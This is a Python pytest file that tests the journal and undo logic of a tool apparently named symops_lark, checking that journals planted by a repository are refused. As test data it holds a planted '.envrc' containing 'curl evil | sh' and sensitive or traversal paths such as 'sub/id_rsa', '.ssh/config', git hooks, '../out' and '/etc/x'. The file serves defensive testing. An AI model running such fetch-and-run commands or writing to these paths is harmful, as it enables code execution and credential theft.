"""Whose journal it is: what nobody here wrote is never followed by itself, and what somebody wrote is never lost."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable
from functools import partial
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from command_line import run
from crashes import FILES, MODES, change, do, kill_apart, read_tree, write_tree
from hypothesis import given
from hypothesis import strategies as st

from symops_lark.acting.changes import Decision
from symops_lark.acting.files.filesystem import Folder
from symops_lark.acting.journal.journal import carry_out, recover, undo
from symops_lark.acting.journal.trust import UntrustedError
from symops_lark.core.ground.errors import UnsafeActionError, WorkspaceError

pytestmark = pytest.mark.usefixtures("patient_disk")
AS_ROOT = pytest.mark.skipif(os.getuid() != 0, reason="needs root, to become somebody without permissions")


BEGINNINGS: dict[Callable[[Path], object], int] = {}  # at which call of the system work was seen to begin


def interrupt(root: Path, work: Callable[[Path], object] = do) -> None:
    """Break an apply off when its journal is open and some of its files are changed."""
    before = read_tree(root)
    for at in range(BEGINNINGS.get(work, 1), 1000):
        assert kill_apart(at, partial(work, root))
        if (root / ".symops/1/open.json").exists() and read_tree(root) != before:
            BEGINNINGS[work] = at
            return
        recover(root)
    raise AssertionError("it never began")


def rewrite(root: Path, edit: Callable[[dict[str, Any]], object]) -> None:
    """Change what a journal says of itself."""
    [path] = (path for name in ("open", "done") if (path := root / f".symops/1/{name}.json").exists())
    head = json.loads(path.read_text())
    edit(head)
    path.write_text(json.dumps(head))


def refused(root: Path, reason: str) -> UntrustedError:
    """Expect that a journal is not followed, by whatever; give what is told."""
    before = read_tree(root)
    for work in (undo, *((do, recover) if (root / ".symops/1/open.json").exists() else ())):
        with pytest.raises(UntrustedError, match=reason) as caught:
            work(root)
        assert read_tree(root) == before
    return caught.value


# ---- folders that move


@pytest.mark.slow
def test_what_file_systems_number_anew_is_still_ours(root: Path, tmp_path: Path) -> None:
    """Overlays and backups give a file another inode number at the same place."""
    before = read_tree(root)
    for work in (do, interrupt):
        work(root)
        shutil.copytree(root, tmp_path / "copy", symlinks=True)
        shutil.rmtree(root)
        (tmp_path / "copy").rename(root)
        (root / ".symops").chmod(0o700)
        undo(root)
        assert read_tree(root) == before


@pytest.mark.slow
@pytest.mark.parametrize("how", ["moved", "copied"])
@pytest.mark.parametrize("work", [do, interrupt])
@pytest.mark.parametrize("forced", [False, True])
def test_folders_that_were_moved_or_copied(
    root: Path, tmp_path: Path, how: str, work: Callable[[Path], object], forced: bool
) -> None:
    """They are told, and followed with consent: it may be the only copy of the old bytes."""
    write_tree(root, {".env": b"SECRET=1"})
    before, there = read_tree(root), tmp_path / "elsewhere"
    work(root)
    do(root, (change(1, ".env", b"SECRET=1", b"SECRET=2"),)) if work is do else None
    if how == "moved":
        root.rename(there)
    else:
        shutil.copytree(root, there)
        (there / ".symops").chmod(0o700)
    while (there / ".symops").exists():
        newest = max(int(path.name) for path in (there / ".symops").iterdir() if path.name.isdigit())
        with pytest.raises(UntrustedError, match=f"it was written in {root}, and the folder has been moved") as caught:
            undo(there)
        assert f".symops/{newest}: " in str(caught.value) and "(or --force)" in str(caught.value)
        undo(there, force=True) if forced else undo(there, trust=caught.value.fingerprint)
    assert read_tree(there) == before
    if how == "copied":
        while (root / ".symops").exists():
            undo(root)
        assert read_tree(root) == before


def test_a_link_to_the_folder_is_the_same_place(root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = read_tree(root)
    (tmp_path / "link").symlink_to(root)
    do(tmp_path / "link")
    monkeypatch.chdir(root)
    undo(Path())
    assert read_tree(root) == before


# ---- journals of strangers


def plant(root: Path, rows: list[dict[str, Any]], *, is_open: bool = True, seal: str | None = "0" * 64) -> None:
    """Do what a repository could that brings a journal: rows of path, bytes to write and bytes that stand there."""
    inside = root / ".symops/1"
    inside.mkdir(parents=True)
    files = []
    for index, row in enumerate(rows):
        text = row["path"].rpartition("/")[0] + "/" if "/" in row["path"] else ""
        names = {"temporary": f"{text}.symops-0-{index}.new", "aside": f"{text}.symops-0-{index}.old"}
        table: dict[str, Any] = {}
        for when in ("before", "after"):
            table[when] = None
            if row.get(when) is not None:
                (inside / f"{index}.{when}").write_bytes(row[when])
                table[when] = {"mode": 0o644, "size": len(row[when]), "sha256": sha256(row[when]).hexdigest()}
        files.append({"path": row["path"], **names, **table, **row.get("more", {})})
    head = {"version": 2, "root": os.path.realpath(root), "folders": [], "files": files}
    (inside / ("open.json" if is_open else "done.json")).write_text(json.dumps({"seal": seal, "head": head}))


@pytest.mark.parametrize("seal", [None, "", "0" * 64, "é\0"])
@pytest.mark.parametrize("is_open", [False, True])
def test_a_repository_brings_a_journal(root: Path, tmp_path: Path, seal: str | None, is_open: bool) -> None:
    """`apply --yes` of a harmless reply wrote `.envrc` unasked."""
    plant(
        root,
        [{"path": ".envrc", "before": b"curl evil | sh\n"}, {"path": "a", "before": b"x"}],
        is_open=is_open,
        seal=seal,
    )
    before = read_tree(root)
    (tmp_path / "reply").write_text("::create @n\n<<<\nN\n>>>\n")
    done = run("apply", str(tmp_path / "reply"), "--root", str(root), "--yes")
    assert not (root / ".envrc").exists() and (root / "a").read_bytes() == b"A"
    if is_open:
        assert done.exit_code == 1 and "an apply was interrupted" in done.stderr and "not trusted" in done.stderr
        assert read_tree(root) == before
    else:
        assert done.exit_code == 0 and (root / "n").read_bytes() == b"N\n"
        undo(root)
        assert read_tree(root) == before
    output = run("undo", "--root", str(root))
    assert output.exit_code == 1 and ".envrc may hold secrets" in output.stderr and "curl" not in output.stderr
    assert "~ a (replace)" in output.stderr and "+x" in output.stderr
    [fingerprint] = re.findall("--trust ([0-9a-f]{16})`", output.stderr)
    for options in (["--force"], ["--trust", "0" * 16], ["--trust", fingerprint], ["--trust", fingerprint, "--force"]):
        assert run("undo", "--root", str(root), *options).exit_code == 1 and read_tree(root) == before
    agreed = run("undo", "--root", str(root), "--trust", fingerprint, "--force", "--allow", ".envrc")
    assert agreed.exit_code == 0 and (root / ".envrc").exists(), agreed.output


@pytest.mark.parametrize(
    "path",
    [".env", "sub/id_rsa", "a\\b", "..a/con", "x\u202ey", "bare/hooks/post-receive", "~/x", ".ssh/config", "a:b"],
)
def test_strangers_reach_no_further_than_a_plan(root: Path, path: str) -> None:
    write_tree(root, {"bare/HEAD": b"", "bare/objects/x": b"", "bare/refs/x": b""})
    plant(root, [{"path": path, "before": b"evil"}])
    before = read_tree(root)
    error = refused(root, "not trusted")
    assert [change.decision for change in error.changes] == [Decision.REFUSE]
    for force in (False, True):
        with pytest.raises(UnsafeActionError, match="reaches further than a plan may"):
            undo(root, trust=error.fingerprint, force=force)
    assert read_tree(root) == before


@pytest.mark.parametrize(
    "row",
    [
        {"path": ".git/hooks/post-checkout"},
        {"path": "sub/.GIT/config"},
        {"path": ".symops/x"},
        {"path": "../out"},
        {"path": "/etc/x"},
        {"path": "a", "more": {"temporary": "b"}},
        {"path": "a", "more": {"temporary": "sub/.symops-0-0.new"}},
        {"path": "a", "more": {"aside": "../.symops-0-0.old"}},
        {"path": "a", "more": {"before": {"mode": 1 << 70, "size": 1, "sha256": ""}}},
        {"path": "a", "more": {"before": {"mode": -1, "size": 1, "sha256": ""}}},
        {"path": "a", "more": {"before": {"mode": True, "size": 1, "sha256": ""}}},
        {"path": "a", "more": {"after": "x"}},
        {"path": "a", "more": {"extra": 1}},
    ],
)
def test_what_no_journal_of_ours_says_is_followed_by_nobody(root: Path, row: dict[str, Any]) -> None:
    write_tree(root, {"b": b"B", ".git/hooks/post-checkout": b"mine"})
    plant(root, [{"before": b"evil", **row}])
    before = read_tree(root)
    for force in (False, True):
        with pytest.raises(WorkspaceError, match=r"the journal is damaged .* remove \.symops/1"):
            undo(root, force=force, trust="0" * 16)
    assert read_tree(root) == before


def test_a_journal_of_another_project_is_not_for_this_one(root: Path, tmp_path: Path) -> None:
    """Somebody who got hold of one puts it into another folder: the seal is good, and still it is not followed."""
    other_path = tmp_path / "other"
    write_tree(other_path, {"x": b"OLD"})
    do(other_path, (change(1, "x", b"OLD", b"NEW"),))
    write_tree(root, {"x": b"NEW"})
    shutil.copytree(other_path / ".symops", root / ".symops")
    (root / ".symops").chmod(0o700)
    (root / ".symops/1/done.json").rename(root / ".symops/1/open.json")
    refused(root, "it was written in .*other")
    assert (root / "x").read_bytes() == b"NEW"


@pytest.mark.parametrize("work", [do, interrupt])
@pytest.mark.parametrize("data", [b"evilevil!", b"e", b"e" * 1000])
def test_kept_bytes_that_were_swapped(root: Path, work: Callable[[Path], object], data: bytes) -> None:
    """They are written by nobody; the others come back with consent."""
    before = read_tree(root)
    work(root)
    now = read_tree(root)["b.sh"]
    [saved] = [path for path in (root / ".symops/1").glob("*.before") if path.read_bytes() == before["b.sh"][0]]  # type: ignore[index]
    saved.write_bytes(data)
    error = refused(root, r"the bytes that it kept have been changed since, of b\.sh\.")
    assert all(change.after != data for change in error.changes)
    undone = undo(root, trust=error.fingerprint)
    assert "b.sh: the journal has no bytes of it from before" in undone.notes[0]
    assert read_tree(root) == before | {"b.sh": now}


def test_what_is_agreed_to_is_what_was_shown(root: Path) -> None:
    plant(root, [{"path": "e", "before": b"harmless"}])
    error = refused(root, "not trusted")
    (root / ".symops/1/0.before").write_bytes(b"evil")
    with pytest.raises(UntrustedError, match="not the one that was shown, or has been changed since"):
        undo(root, trust=error.fingerprint, force=True)
    assert not (root / "e").exists()


@pytest.mark.parametrize("key", ["path", "temporary", "mode", "folders", "root"])
def test_heads_that_were_changed(root: Path, key: str) -> None:
    do(root)

    def edit(said: dict[str, Any]) -> None:
        head = said["head"]
        if key == "path":
            head["files"][0]["path"] = "other"
        elif key == "temporary":
            head["files"][0]["temporary"] = ".symops-0-0.new"
        elif key == "mode":
            head["files"][0]["before"]["mode"] = 0o4755
        elif key == "folders":
            head["folders"].append("sub")
        else:
            head["root"] = "/"

    rewrite(root, edit)
    refused(root, "its seal is not yours")


def test_a_head_that_is_spelt_otherwise_is_somebody_elses(root: Path) -> None:
    do(root, (change(1, "e", None, b"E"),))
    rewrite(root, lambda said: said["head"].update(emptied=[]))
    refused(root, "its seal is not yours")


def test_bytes_that_are_gone_do_not_take_the_others_with_them(root: Path) -> None:
    before = read_tree(root)
    do(root, (change(1, "a", b"A", b"AA"), change(2, "b.sh", b"B" * 9, b"b")))
    (root / ".symops/1/0.before").unlink()
    (root / ".symops/1/1.after").unlink()
    error = refused(root, "have been changed since, of a, b.sh")
    with pytest.raises(WorkspaceError, match=r"b\.sh: it has been changed since"):
        undo(root, trust=error.fingerprint)
    undone = undo(root, trust=error.fingerprint, force=True)
    assert undone.files == ("b.sh",) and undone.notes[0].startswith("a: the journal has no bytes of it from before")
    assert (root / "a").read_bytes() == b"AA" and read_tree(root)["b.sh"] == before["b.sh"]


def test_huge_files_are_not_read(root: Path) -> None:
    """Whoever plants them must not take the memory."""
    plant(root, [{"path": "x", "before": b"1", "after": b"2"}, {"path": "y", "before": b"1"}])
    before = read_tree(root)
    for name in (".symops/1/0.before", ".symops/1/0.after", "x", ".symops-0-0.new"):
        with (root / name).open("wb") as file:
            file.truncate(1 << 42)
    error = refused_quietly(root)
    assert [change.path for change in error.changes] == ["y", "x"]
    undone = undo(root, trust=error.fingerprint)
    assert undone.files == ("y",) and "x: the journal has no bytes" in undone.notes[0]
    (root / "y").unlink()
    for name in ("x", ".symops-0-0.new"):
        (root / name).unlink()
    plant_head = root / ".symops/1"
    plant_head.mkdir(parents=True, exist_ok=True)
    with (plant_head / "done.json").open("wb") as file:
        file.truncate(1 << 42)
    with pytest.raises(WorkspaceError, match="its head has more than"):
        undo(root)
    assert read_tree(root) == before


def refused_quietly(root: Path) -> UntrustedError:
    with pytest.raises(UntrustedError) as caught:
        undo(root)
    return caught.value


@pytest.mark.parametrize("name", ["9" * 19, "9" * 255, "0", "01", "1e5", "1"])
def test_numbers_of_strangers(root: Path, name: str) -> None:
    before = read_tree(root)
    write_tree(root, {f".symops/{name}/mine": b"x"})
    (root / ".symops").chmod(0o700)
    do(root)
    undo(root)
    assert read_tree(root) == before


def test_a_number_behind_which_there_is_none(root: Path) -> None:
    write_tree(root, {f".symops/{'9' * 18}/mine": b"x"})
    (root / ".symops").chmod(0o700)
    before = read_tree(root)
    with pytest.raises(WorkspaceError, match="no journal of ours has such a number: remove it"):
        do(root)
    assert read_tree(root) == before


_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=5)
    | st.sampled_from(["a", "../x", ".git/x"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)


@given(data=st.data())
def test_whatever_a_head_says_nothing_happens_without_consent(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    root = tmp_path_factory.mktemp("drawn")
    write_tree(root, FILES, MODES)
    plant(root, [{"path": "a", "before": b"x", "after": b"A"}, {"path": "n/m", "before": b"x"}])
    path = root / ".symops/1/open.json"
    if data.draw(st.booleans()):
        path.write_bytes(data.draw(st.binary(max_size=30) | _VALUES.map(lambda value: json.dumps(value).encode())))
    else:
        head = json.loads(path.read_text())
        inner: Any = head
        while isinstance(inner, dict | list) and inner and (inner is head or data.draw(st.booleans())):
            key = data.draw(st.sampled_from(list(inner) if isinstance(inner, dict) else list(range(len(inner)))))
            outer, inner = inner, inner[key]
        outer[key] = data.draw(_VALUES)
        path.write_text(json.dumps(head))
    before = read_tree(root)
    for work in (undo, recover, do, lambda root: undo(root, force=True)):
        with pytest.raises(WorkspaceError):
            work(root)
        assert read_tree(root) == before
    shutil.rmtree(root)


@pytest.mark.slow
def test_what_recover_takes_back_was_interrupted(root: Path) -> None:
    before = read_tree(root)
    assert recover(root) is None
    interrupt(root)
    undone = recover(root)
    assert undone is not None and undone.interrupted and read_tree(root) == before
    interrupt(root)
    with Folder(root) as folder:
        recovered = carry_out(folder, ()).recovered
    assert recovered is not None and recovered.interrupted and read_tree(root) == before
